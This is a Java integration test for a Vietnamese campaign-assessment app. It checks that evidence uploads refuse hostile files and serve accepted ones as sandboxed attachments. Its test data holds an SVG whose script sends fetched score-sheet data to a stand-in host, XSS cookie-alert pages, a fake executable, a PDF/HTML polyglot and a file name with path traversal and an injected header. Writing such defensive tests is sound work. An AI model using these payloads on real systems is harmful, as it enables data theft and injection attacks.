package vn.vusta.thidua.campaign.assessment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Arrays;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationEventPublisher;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.transaction.support.TransactionTemplate;
import vn.vusta.thidua.campaign.Campaigns;
import vn.vusta.thidua.campaign.ReviewMode;
import vn.vusta.thidua.campaign.registration.Registrations;
import vn.vusta.thidua.campaign.sheet.ScoringSheets;
import vn.vusta.thidua.support.IntegrationTest;
import vn.vusta.thidua.support.TestClock;

/**
 * Hostile uploads over HTTP, as a unit's officer sends them: an SVG with a script, an HTML page named .pdf, a Windows
 * executable named .pdf or .docx, a ZIP posing as a DOCX, an empty and an oversized file are each refused with a
 * Vietnamese message naming the rule, and nothing is stored (no file, no content, no audit entry); the same holds for
 * the file of an explanation, which leaves the sheet as it was. A file that is accepted (even a PDF that also reads as
 * HTML) is only ever served as an attachment, with nosniff and a sandboxing CSP, under a cleaned name. Test year 2050.
 */
@IntegrationTest
class HostileUploadIntegrationTests {
    static final int YEAR = 2050;
    static final String CLUSTER = "CUM-HU";

    @AfterAll
    static void removeTheTestYear(@Autowired JdbcTemplate jdbc) {
        AssessmentFixture.removeYear(jdbc, YEAR, CLUSTER);
        jdbc.update("delete from scoring_sheet where code = 'HU' and valid_from = ?", java.time.LocalDate.of(YEAR, 1, 1));
    }

    @Autowired MockMvc mvc;
    @Autowired JdbcTemplate jdbc;
    @Autowired TransactionTemplate tx;
    @Autowired ScoringSheets scoringSheets;
    @Autowired Campaigns campaigns;
    @Autowired Registrations registrations;
    @Autowired ApplicationEventPublisher events;
    @Autowired ScoreSheetCreation creation;
    @Autowired TestClock clock;

    AssessmentFixture f;
    static long tree;
    static long sheet;

    @BeforeEach
    void hanoisDraft() {
        f = new AssessmentFixture(jdbc, tx, scoringSheets, campaigns, registrations, events);
        if (sheet != 0) return;
        f.cluster(YEAR, CLUSTER);
        tree = f.scoringSheet("HU", YEAR);
        long campaign = f.openCampaign(YEAR, tree, ReviewMode.HEAD);
        creation.createMissing(campaign);
        sheet = f.sheetOf(campaign, "LHH-HNI");
    }

    @AfterEach
    void backToDraft() {
        clock.reset();
        jdbc.update("delete from explanation where score_sheet_id = ?", sheet);
        jdbc.update("update score_sheet set status = 'DRAFT' where id = ?", sheet);
    }

    static final byte[] SVG = """
            <?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">
            <script>fetch('/api/v1/score-sheets').then(r => r.text()).then(t => navigator.sendBeacon('//x.invalid', t))</script></svg>"""
            .getBytes(StandardCharsets.UTF_8);
    static final byte[] HTML = "<!DOCTYPE html><html><body><script>alert(document.cookie)</script>Quyết định</body></html>"
            .getBytes(StandardCharsets.UTF_8);

    /** The start of a Windows executable: "MZ", the DOS stub's message, then the PE header. */
    static byte[] executable() {
        var bytes = new byte[4096];
        bytes[0] = 'M';
        bytes[1] = 'Z';
        var stub = "This program cannot be run in DOS mode.".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(stub, 0, bytes, 0x4E, stub.length);
        bytes[0x80] = 'P';
        bytes[0x81] = 'E';
        return bytes;
    }

    /** A ZIP named .docx holding an executable and no Word document. */
    static byte[] zipWithoutWordDocument() throws Exception {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>".getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry("setup.exe"));
            zip.write(executable());
        }
        return out.toByteArray();
    }

    int stored() {
        return jdbc.queryForObject("select (select count(*) from evidence_file where score_sheet_id = ?)"
                + " + (select count(*) from evidence_content c join evidence_file e on e.id = c.evidence_id where e.score_sheet_id = ?)",
                Integer.class, sheet, sheet);
    }

    int audits(String action) { return SelfAssessmentIntegrationTests.audits(jdbc, action, sheet); }

    /** Uploads the file as Hà Nội's evidence for I.1 and returns the message of the sheet shown again (422). */
    String upload(String name, String contentType, byte[] content) throws Exception {
        var result = mvc.perform(SelfAssessmentIntegrationTests.as("hanoi.demo", multipart("/score-sheets/" + sheet + "/evidence")
                        .file(new MockMultipartFile("file", name, contentType, content)).param("criterionId", String.valueOf(f.criterion(tree, "I.1")))))
                .andExpect(status().isUnprocessableContent()).andReturn();
        assertThat(result.getFlashMap().get("success")).as(name + " must not be accepted").isNull();
        return String.valueOf(result.getModelAndView().getModel().get("error"));
    }

    @Test
    void everyHostileFileIsRefusedWithAVietnameseMessageAndNothingIsStored() throws Exception {
        int files = stored();
        int added = audits("SCORE_EVIDENCE_ADDED");
        String refused = "không được nhận: chỉ nhận PDF, ảnh PNG hoặc JPEG, DOCX, XLSX (kiểm tra theo nội dung tệp). Tệp chưa được lưu.";
        assertThat(upload("logo.svg", "image/svg+xml", SVG)).isEqualTo("Tệp “logo.svg” " + refused);
        assertThat(upload("logo.png", "image/png", SVG)).isEqualTo("Tệp “logo.png” " + refused);
        assertThat(upload("quyet-dinh.pdf", "application/pdf", HTML)).isEqualTo("Tệp “quyet-dinh.pdf” " + refused);
        assertThat(upload("bao-cao.pdf", "application/pdf", executable())).isEqualTo("Tệp “bao-cao.pdf” " + refused);
        assertThat(upload("bao-cao.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", executable()))
                .isEqualTo("Tệp “bao-cao.docx” " + refused);
        assertThat(upload("bien-ban.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", zipWithoutWordDocument()))
                .isEqualTo("Tệp “bien-ban.docx” " + refused);
        assertThat(upload("rong.pdf", "application/pdf", new byte[0])).isEqualTo("Chưa chọn tệp minh chứng (hoặc tệp rỗng).");
        var oversized = new byte[10 * 1024 * 1024 + 1];
        System.arraycopy("%PDF-1.4\n".getBytes(StandardCharsets.US_ASCII), 0, oversized, 0, 9);
        assertThat(upload("ban-scan.pdf", "application/pdf", oversized)).isEqualTo("Tệp quá lớn: mỗi tệp minh chứng tối đa 10 MB. Tệp chưa được lưu.");
        assertThat(stored()).isEqualTo(files);
        assertThat(audits("SCORE_EVIDENCE_ADDED")).isEqualTo(added);
    }

    @Test
    void aHostileExplanationFileIsRefusedAndTheSheetStaysReviewed() throws Exception {
        jdbc.update("update score_sheet set status = 'REVIEWED' where id = ?", sheet);
        clock.setInstant(Instant.parse(YEAR + "-12-12T03:00:00Z"));
        int files = stored();
        var result = mvc.perform(SelfAssessmentIntegrationTests.as("hanoi.demo", multipart("/score-sheets/" + sheet + "/explanations")
                        .file(new MockMultipartFile("file", "bien-ban.pdf", "application/pdf", executable()))
                        .param("version", String.valueOf(f.version(sheet))).param("criterionId", String.valueOf(f.criterion(tree, "I.3")))
                        .param("text", "Đã có biên bản kèm theo")))
                .andExpect(status().isUnprocessableContent()).andReturn();
        assertThat(String.valueOf(result.getModelAndView().getModel().get("error"))).startsWith("Tệp “bien-ban.pdf” không được nhận");
        assertThat(f.status(sheet)).isEqualTo("REVIEWED");
        assertThat(jdbc.queryForObject("select count(*) from explanation where score_sheet_id = ?", Integer.class, sheet)).isZero();
        assertThat(stored()).isEqualTo(files);
    }

    @Test
    void anAcceptedFileIsOnlyEverServedAsAnAttachment() throws Exception {
        // a PDF that a browser could also read as HTML: accepted by its header, and never rendered
        var polyglot = "%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF".getBytes(StandardCharsets.US_ASCII);
        assertThat(mvc.perform(SelfAssessmentIntegrationTests.as("hanoi.demo", multipart("/score-sheets/" + sheet + "/evidence")
                        .file(new MockMultipartFile("file", "..\\..\\bao-cao\"\r\nX-Injected: 1.html", "text/html", polyglot))
                        .param("criterionId", String.valueOf(f.criterion(tree, "I.1")))))
                .andReturn().getFlashMap().get("success")).isNotNull();
        long evidence = jdbc.queryForObject("select max(id) from evidence_file where score_sheet_id = ?", Long.class, sheet);
        var response = mvc.perform(SelfAssessmentIntegrationTests.as("hanoi.demo", get("/score-sheets/" + sheet + "/evidence/" + evidence)
                        .accept("text/html")))
                .andExpect(status().isOk())
                .andExpect(header().string("Content-Type", "application/pdf"))
                .andExpect(header().string("X-Content-Type-Options", "nosniff"))
                .andExpect(header().string("Content-Security-Policy", "default-src 'none'; sandbox"))
                .andExpect(header().doesNotExist("X-Injected"))
                .andReturn().getResponse();
        var disposition = response.getHeader("Content-Disposition");
        assertThat(disposition).startsWith("attachment;").doesNotContain("\r", "\n", "..", "\\").contains(".pdf");
        assertThat(Arrays.equals(response.getContentAsByteArray(), polyglot)).isTrue();
        // another unit's officer and the head cannot fetch the draft's file
        for (var who : new String[] {"cantho.demo", "haiphong25.assess"}) {
            mvc.perform(SelfAssessmentIntegrationTests.as(who, get("/score-sheets/" + sheet + "/evidence/" + evidence))).andExpect(status().isForbidden());
        }
        jdbc.update("delete from evidence_file where id = ?", evidence);
    }
}
